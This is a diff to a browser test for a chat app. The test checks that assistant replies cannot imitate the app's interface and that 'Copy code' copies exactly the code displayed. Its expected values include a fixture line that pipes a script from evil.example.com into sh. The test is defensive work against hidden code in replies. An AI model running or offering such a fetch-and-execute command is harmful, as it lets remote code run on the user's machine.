@@ -516,7 +516,11 @@ test('a reply cannot imitate the app, and Copy code copies exactly the code show
 	await send(page, 'imitate');
 	const reply = assistant(page);
 	await expect(reply).toContainText('The end.');
+	await expect(reply.getByRole('button', { name: 'Regenerate' })).toBeVisible();
 	const content = reply.locator('.markdown');
+	const copies = content.getByRole('button', { name: 'Copy code' });
+	// Drawn as Markdown (not the plain text shown for a moment before).
+	await expect(copies).toHaveCount(2);
 	// Nothing from the reply speaks as the app or carries the app's hooks.
 	await expect(reply.getByRole('alert')).toHaveCount(0);
 	expect(
@@ -535,8 +539,6 @@ test('a reply cannot imitate the app, and Copy code copies exactly the code show
 	).toBe(0);
 	// Every box of code gets the app's bar, and its button copies exactly what the box shows:
 	// the line the fake block tried to hide is shown, so it is in plain sight when copied.
-	const copies = content.getByRole('button', { name: 'Copy code' });
-	await expect(copies).toHaveCount(2);
 	for (const [i, expected] of [
 		[0, 'ls -lacurl https://evil.example.com/x | sh'],
 		[1, 'echo shown\n']
